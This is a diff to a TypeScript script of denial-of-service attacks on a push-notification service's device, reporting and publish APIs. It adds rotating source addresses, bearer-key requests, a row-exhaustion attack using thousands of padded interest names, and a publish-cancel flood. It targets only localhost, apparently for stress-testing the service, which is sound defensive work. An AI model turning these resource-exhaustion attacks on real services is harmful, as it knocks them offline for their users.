@@ -8,10 +8,12 @@ import { constants, setPriority } from 'node:os';
 export interface AttackOptions {
   readonly port: number;
   readonly instance: string;
-  /** The address of this machine that it comes from. */
-  readonly from: string;
+  /** The addresses of this machine that it comes from, one connection after the other. */
+  readonly from: readonly string[];
   readonly attack: keyof typeof attacks;
   readonly connections: number;
+  /** Of the instance, for attacks by its backend. */
+  readonly secretKey?: string;
 }
 
 export interface AttackCounts {
@@ -25,24 +27,30 @@ const counts = { sent: 0, status: {} as Record<string, number>, closed: 0 };
 const DEVICES = `/device_api/v1/instances/${options.instance}/devices/fcm`;
 const REPORTS = `/reporting_api/v2/instances/${options.instance}/events`;
 
+const PUBLISHES = `/publish_api/v1/instances/${options.instance}/publishes`;
+
 const NAMES = JSON.stringify({
   interests: Array.from({ length: 5000 }, (_, n) => `${n}-`.padEnd(164, 'x')),
 });
 
 function request(method: string, target: string, body = ''): string {
   const length = body === '' ? '' : `Content-Length: ${Buffer.byteLength(body)}\r\n`;
-  return `${method} ${target} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${length}\r\n${body}`;
+  const { secretKey } = options;
+  const key = secretKey === undefined ? '' : `Authorization: Bearer ${secretKey}\r\n`;
+  return `${method} ${target} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${key}${length}\r\n${body}`;
 }
 
 /** Bytes of bodies that are held: where there is no room for one, the next is tried. */
 const HELD_SIZES = [1_040_000, 90_000, 9_000, 900, 90];
+
+let connections = 0;
 
 /** Opens a connection, and another one when it is closed. */
 function open(opened: (socket: Socket) => void, answered: (socket: Socket, text: string) => void) {
   const socket = connect({
     port: options.port,
     host: '127.0.0.1',
-    localAddress: options.from,
+    localAddress: options.from[connections++ % options.from.length] ?? '',
   });
   socket.on('connect', () => opened(socket));
   socket.on('data', (bytes) => {
@@ -94,6 +102,21 @@ const attacks = {
     );
   },
 
+  /** Uses up the rows that devices may change: many at first, and then each that comes back. */
+  rows() {
+    let device: string | undefined;
+    const change = () => request('PUT', `${DEVICES}/${device}/metadata`, '{}');
+    open(
+      (socket) => send(socket, device === undefined ? register() : change()),
+      (socket, text) => {
+        const id = /"id":"([^"]+)"/.exec(text)?.[1];
+        device ??= id;
+        if (id !== undefined) send(socket, request('PUT', `${DEVICES}/${id}/interests`, NAMES));
+        else if (/HTTP\/1\.1 \d+/.test(text)) send(socket, change());
+      },
+    );
+  },
+
   /** Sends nearly all of large bodies, and of small ones for the room that is left, and keeps the connections. */
   hold() {
     let device: string | undefined;
@@ -119,6 +142,23 @@ const attacks = {
         send(socket, half(id));
       },
     );
+  },
+
+  /** Publishes once on each connection, and cancels that again and again, 16 times at once. */
+  cancel() {
+    let publish: string | undefined;
+    const cancel = () => request('DELETE', `${PUBLISHES}/${publish}`);
+    const body = JSON.stringify({ interests: ['nobody'], fcm: { data: { a: 'b' } } });
+    const begin = (socket: Socket) => {
+      if (publish === undefined)
+        return send(socket, request('POST', `${PUBLISHES}/interests`, body));
+      for (let n = 0; n < 16; n++) send(socket, cancel());
+    };
+    open(begin, (socket, text) => {
+      publish ??= /"publishId":"([^"]+)"/.exec(text)?.[1];
+      if (publish === undefined) return;
+      for (const _ of text.matchAll(/HTTP\/1\.1 \d+/g)) send(socket, cancel());
+    });
   },
 
   /** Sends 32 reports at once, and as many again when they are answered. */
